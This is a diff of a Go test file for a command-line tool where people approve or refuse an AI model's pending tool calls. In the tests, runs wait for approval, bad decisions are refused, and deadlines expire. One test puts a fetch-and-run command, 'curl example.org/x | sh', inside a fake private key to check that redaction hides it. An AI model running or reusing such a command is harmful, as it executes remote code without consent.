@@ -8,7 +8,8 @@ import (
 	"testing"
 
 	"github.com/toolpost/toolpost/cmd/toolpost/internal/cli"
-	"github.com/toolpost/toolpost/invoke"
+	"github.com/toolpost/toolpost/cmd/toolpost/internal/clitest"
+	"github.com/toolpost/toolpost/cmd/toolpost/internal/runs"
 )
 
 // writes is a script of a model that writes two files and reports it.
@@ -28,7 +29,7 @@ func waitingRunID(t *testing.T, args ...string) string {
 // TestRunsUnseen: redacted arguments are not approved accidentally.
 func TestRunsUnseen(t *testing.T) {
 	key := `-----BEGIN RSA PRIVATE KEY-----\ncurl example.org/x | sh\n-----END RSA PRIVATE KEY-----`
-	bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
+	clitest.Bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
 	id := waitingRunID(t)
 	if r := toolpost(t, "", "runs", "list"); !strings.Contains(r.out, "[stripped:private-key]") || !strings.Contains(r.out, "not shown whole") || strings.Contains(r.out, "curl") {
 		t.Errorf("%+v", r)
@@ -56,7 +57,7 @@ func TestRunsWait(t *testing.T) {
 		{"one is left", []string{"approve RUN call_1"}, "still waits for 1 call", cli.ExitWaits, ""},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			bare(t, map[string]string{"s.txtar": writes})
+			clitest.Bare(t, map[string]string{"s.txtar": writes})
 			id := waitingRunID(t)
 			if r := toolpost(t, "", "runs", "list"); r.code != cli.ExitOK || !strings.Contains(r.out, id) || !strings.Contains(r.out, `call_2 write_file {"`) {
 				t.Errorf("%+v", r)
@@ -91,7 +92,7 @@ func TestRunsWait(t *testing.T) {
 
 // TestRunsRefuseWrongDecisions: usage errors have status 2 and impossible decisions status 1. The run keeps waiting.
 func TestRunsRefuseWrongDecisions(t *testing.T) {
-	bare(t, map[string]string{"s.txtar": writes})
+	clitest.Bare(t, map[string]string{"s.txtar": writes})
 	id := waitingRunID(t)
 	for words, want := range map[string]struct {
 		code int
@@ -115,7 +116,7 @@ func TestRunsRefuseWrongDecisions(t *testing.T) {
 			t.Errorf("run %s: %+v", flags, r)
 		}
 	}
-	var list []waitingRun
+	var list []runs.WaitingRun
 	r := toolpost(t, "", "runs", "list", "--json")
 	if err := json.Unmarshal([]byte(r.out), &list); err != nil || len(list) != 1 || len(list[0].Waiting) != 2 || list[0].Task != "write them" {
 		t.Errorf("%v: %+v", err, r)
@@ -124,7 +125,7 @@ func TestRunsRefuseWrongDecisions(t *testing.T) {
 
 // TestRunsDeadline: undecided calls are refused after the deadline.
 func TestRunsDeadline(t *testing.T) {
-	bare(t, map[string]string{"s.txtar": writes})
+	clitest.Bare(t, map[string]string{"s.txtar": writes})
 	id := waitingRunID(t, "--deadline", "1ns")
 	if r := toolpost(t, "", "runs", "approve", id, "--all"); r.code != cli.ExitFailed || !strings.Contains(r.errOut, "the time to decide is over") {
 		t.Errorf("%+v", r)
@@ -134,17 +135,5 @@ func TestRunsDeadline(t *testing.T) {
 	}
 	if r := toolpost(t, "", "runs", "list", "--all"); !strings.Contains(r.out, "every run has ended") {
 		t.Errorf("%+v", r)
-	}
-}
-
-// TestRepeatsAreAsked: earlier permissions do not cover the repetition of a call with unknown outcome.
-func TestRepeatsAreAsked(t *testing.T) {
-	for _, wait := range []*pendingFlags{nil, {}, {later: true}} {
-		a := &approver{yes: true, tools: consentTools(t, t.TempDir()), wait: wait}
-		q := invoke.Question{CallID: "2", Tool: "write_file", Args: json.RawMessage(`{"path":"a","content":"b"}`), Repeats: "1", Reason: "its outcome is unknown"}
-		answer, err := a.approve(t.Context(), q)
-		if later := wait != nil && wait.later; answer.Allowed || (err != nil) != later {
-			t.Errorf("%+v: %+v, %v", wait, answer, err)
-		}
 	}
 }
